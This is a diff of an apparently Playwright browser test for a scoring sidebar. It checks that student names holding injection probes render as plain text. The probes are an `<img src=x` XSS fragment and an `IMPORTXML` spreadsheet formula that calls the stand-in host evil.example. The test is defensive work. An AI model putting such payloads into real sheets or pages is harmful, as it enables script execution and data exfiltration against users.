@@ -132,7 +132,7 @@ describe('Scoring sidebar in Chromium', () => {
     const page = await sidebarFor(s);
     await expect.poll(() => page.locator('.mname', { hasText: '<img src=x' }).count()).toBe(1);
     expect(await page.locator('#groups img').count()).toBe(0);
-    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+    expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
     await page.fill('[data-testid=search]', 'IMPORTXML');
     await expect.poll(() => page.locator('[data-testid=student]').count()).toBe(1);
     expect(await page.locator('.mname').first().textContent()).toBe('=IMPORTXML("http://evil.example","//a")');
